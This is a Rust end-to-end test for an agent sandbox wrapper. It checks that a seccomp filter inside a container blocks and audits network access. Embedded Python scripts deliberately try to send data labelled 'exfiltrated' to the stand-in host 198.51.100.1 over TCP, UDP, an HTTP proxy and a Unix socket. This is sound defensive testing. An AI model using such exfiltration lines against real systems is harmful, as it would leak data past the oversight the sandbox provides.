//! The network part of the floor without a network namespace of the tree's own (docs/floor.md,
//! "In a container"): under Docker's default seccomp profile, as tests/floor_container.rs
//! launches a container's process, each connection of the tree is decided by the wrapper
//! through a seccomp filter. A hookless Python agent tries what the filter must stop and
//! what ordinary work needs; each result is read from what reached the outside server
//! (198.51.100.1 in the container's network namespace), from a socket outside the tree, and
//! from the audit log; a process of the container outside the tree tries the proxy too.

use ahp_wrap_testkit::common;

use std::io::Read;
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::*;

/// What the agent does; each act writes its outcome to a file of the workspace.
const AGENT: &str = r#"
import os, socket, threading, time, urllib.request

def outcome(name, text):
    open(name, "w").write(text)

# Ordinary work: a server of the tree's own on loopback, and its client.
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
def serve():
    conn, _ = server.accept()
    conn.sendall(conn.recv(64).upper())
    conn.close()
threading.Thread(target=serve, daemon=True).start()
try:
    c = socket.create_connection(server.getsockname(), timeout=5)
    c.sendall(b"ping")
    outcome("own-server", c.recv(64).decode())
except OSError as e:
    outcome("own-server", f"failed: {e}")

# An abstract socket of the tree's own: the kernel's to connect.
try:
    own = socket.socket(socket.AF_UNIX)
    own.bind("\0ahp-wrap-floor-test-%d" % os.getpid())
    own.listen(1)
    socket.socket(socket.AF_UNIX).connect("\0ahp-wrap-floor-test-%d" % os.getpid())
    outcome("abstract", "connected")
except OSError as e:
    outcome("abstract", f"failed: {e}")

# A direct connection to the outside.
try:
    socket.create_connection(("198.51.100.1", 80), timeout=3).sendall(b"direct-exfiltrated")
    outcome("direct", "connected")
except OSError as e:
    outcome("direct", f"refused: {e.errno}")

# A datagram to the outside (a DNS query, or exfiltration over UDP).
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp-exfiltrated", ("198.51.100.1", 80))
    outcome("udp", "sent")
except OSError as e:
    outcome("udp", f"refused: {e.errno}")

# Through the proxy, to a host the policy does not name.
try:
    urllib.request.urlopen("http://198.51.100.1/proxied-exfiltrated", timeout=5)
    outcome("proxied", "answered")
except urllib.error.HTTPError as e:
    outcome("proxied", f"status {e.code}")
except OSError as e:
    outcome("proxied", f"failed: {e}")

# A path socket no process of the tree bound.
try:
    u = socket.socket(socket.AF_UNIX)
    u.connect(os.environ["OUTSIDE_SOCKET"])
    u.sendall(b"unix-exfiltrated")
    outcome("unix", "connected")
except OSError as e:
    outcome("unix", f"refused: {e.errno}")

# The proxy's address, for the process outside the tree; wait for it to have tried.
outcome("proxy-address", os.environ["HTTP_PROXY"])
deadline = time.time() + 20
while not os.path.exists("outside-tried") and time.time() < deadline:
    time.sleep(0.05)
outcome("ran", "done")
"#;

/// A process of the container outside the agent's tree: a request for 198.51.100.1 sent to
/// the proxy at `proxy` (`http://127.0.0.1:PORT`); prints what came back.
const OUTSIDE: &str = r#"
import socket, sys
host, port = sys.argv[1].rsplit("/", 1)[-1].split(":")
s = socket.create_connection((host, int(port)), timeout=5)
s.sendall(b"GET http://198.51.100.1/outside-exfiltrated HTTP/1.1\r\nHost: 198.51.100.1\r\n\r\n")
s.settimeout(5)
try:
    print(repr(s.recv(4096)))
except OSError as e:
    print(f"error {e}")
"#;

#[test]
#[cfg_attr(
    skip_e2e = "container",
    ignore = "tests/container/setup.sh skipped (AHP_WRAP_SKIP_AGENT_E2E)"
)]
fn without_a_network_namespace_each_connection_is_decided_and_audited() {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/.cache/container/moby");
    let profile = source.join("profiles/seccomp/default.json");
    assert!(profile.exists(), "run tests/container/setup.sh first");
    let (_dir, root) = outside_tree("floor-container-net-", &["ws", "home"], &[]);
    let ws = root.join("ws");
    let outside_socket = root.join("outside.sock");
    let listener = UnixListener::bind(&outside_socket).unwrap();
    listener.set_nonblocking(true).unwrap();
    let audit = root.join("audit.jsonl");
    let log = root.join("outside.log");

    let mut cmd = Command::new("/usr/bin/python3");
    cmd.arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/container/launch.py"))
        .arg(&profile)
        .arg(&source)
        .arg(&log)
        .arg("--")
        .arg(wrap_bin())
        .args(["--no-intercept", "--summary", "never", "--audit-log"])
        .arg(&audit)
        .args(["--", "/usr/bin/python3", "-c", AGENT])
        .current_dir(&ws)
        .env("HOME", root.join("home"))
        .env("OUTSIDE_SOCKET", &outside_socket)
        .env_remove("AHP_WRAP_FLOOR")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let launcher = child.id();

    // The process outside the tree, in the container's network namespace.
    let started = Instant::now();
    while !ws.join("proxy-address").exists() && started.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(50));
    }
    let proxy = std::fs::read_to_string(ws.join("proxy-address")).unwrap_or_default();
    let outside = run(
        Command::new("nsenter")
            .arg("-t")
            .arg(launcher.to_string())
            .args(["-n", "/usr/bin/python3", "-c", OUTSIDE, &proxy]),
        Duration::from_secs(20),
    );
    std::fs::write(ws.join("outside-tried"), "").unwrap();

    let mut out = String::new();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        assert!(
            started.elapsed() < Duration::from_secs(90),
            "the run did not end"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    let said = |name: &str| std::fs::read_to_string(ws.join(name)).unwrap_or_default();
    let context = format!(
        "status {status}\nstderr:\n{out}\noutside process: {}\noutcomes: own-server {:?}, \
         direct {:?}, udp {:?}, proxied {:?}, unix {:?}",
        show(&outside),
        said("own-server"),
        said("direct"),
        said("udp"),
        said("proxied"),
        said("unix"),
    );
    assert!(status.success() && said("ran") == "done", "{context}");

    // Ordinary work holds: the tree reaches its own server.
    assert_eq!(said("own-server"), "PING", "{context}");
    assert_eq!(said("abstract"), "connected", "{context}");
    // Nothing the tree or the outside process sent reached the outside server.
    let reached = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(!reached.contains("exfiltrated"), "{reached}\n{context}");
    assert_eq!(
        said("direct"),
        format!("refused: {}", libc::EACCES),
        "{context}"
    );
    assert_eq!(
        said("udp"),
        format!("refused: {}", libc::EACCES),
        "{context}"
    );
    assert_eq!(said("proxied"), "status 403", "{context}");
    assert_eq!(
        said("unix"),
        format!("refused: {}", libc::EACCES),
        "{context}"
    );
    // Nothing connected to the socket outside the tree.
    let accepted = listener.accept();
    assert!(
        accepted
            .as_ref()
            .is_err_and(|e| e.kind() == std::io::ErrorKind::WouldBlock),
        "{accepted:?}\n{context}"
    );
    // The proxy answered nothing to the process outside the tree.
    let answered = String::from_utf8_lossy(&outside.stdout);
    assert!(
        answered.trim() == "b''" || answered.starts_with("error"),
        "{answered}\n{context}"
    );
    assert!(
        out.contains("which the agent's tree did not make"),
        "{context}"
    );

    // Each refusal of the tree is in the audit log, with its process.
    let audit = std::fs::read_to_string(&audit).unwrap();
    // (`direct`: refused by the bridge; else by the proxy.)
    let refused = |what: &str, direct: bool| {
        audit.lines().any(|l| {
            let e: serde_json::Value = serde_json::from_str(l).unwrap();
            let argv = e["payload"]["context"]["process"]["argv"][0].as_str();
            e["decision"] == "block"
                && argv == Some("/usr/bin/python3")
                && (e["payload"]["context"]["via"] == "direct") == direct
                && format!("{} {}", e["reason"], e["payload"]["arguments"]).contains(what)
        })
    };
    for (what, direct) in [
        ("198.51.100.1:80", true),
        ("IPv4 datagram", true),
        ("outside.sock", true),
        ("198.51.100.1", false),
    ] {
        assert!(
            refused(what, direct),
            "not audited: {what}\n{audit}\n{context}"
        );
    }
}
